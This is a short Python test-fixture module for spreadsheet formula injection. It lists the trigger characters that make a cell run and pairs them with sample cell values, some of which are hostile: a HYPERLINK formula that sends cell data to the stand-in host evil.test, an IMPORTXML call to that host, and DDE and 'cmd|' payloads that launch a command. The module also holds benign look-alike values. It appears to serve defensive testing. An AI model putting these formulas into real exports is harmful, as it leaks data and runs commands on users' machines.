"""Texts that a spreadsheet program would run, and texts that only look a little like them."""

from __future__ import annotations

RUN_FROM = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
"""The first characters from which a spreadsheet program runs a cell."""

_BODIES = (
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("http://evil.test/?"&A1,"open")',
    "cmd|' /C calc'!A0",
    'IMPORTXML("http://evil.test","//a")',
    'DDE("cmd";"/C calc";"x")',
)
FORMULAS = tuple(
    [first + body for first in RUN_FROM for body in _BODIES]
    + ["'=1+1", "''@SUM(A1)", "'-x", "'\t=1", "-2+3", "--1", "+-1", "-", "=", "@", "+"]
    + ["-1;=2", "+49 (170) 123-45", "+49 170 1234567", "-x,=y", '="00123"', "@admin", "- none -"]
)
PLAIN = (
    *("-5", "+5", "-5.25", "-1,234.56", "+49170123456", "-1e-5", "-50%", "0", "00123"),
    *("'quoted'", "'5", "a=b", "x-y", "me@example.com", "1+1", "A\tB", "O'Brien", " =1", "(=1)"),
)
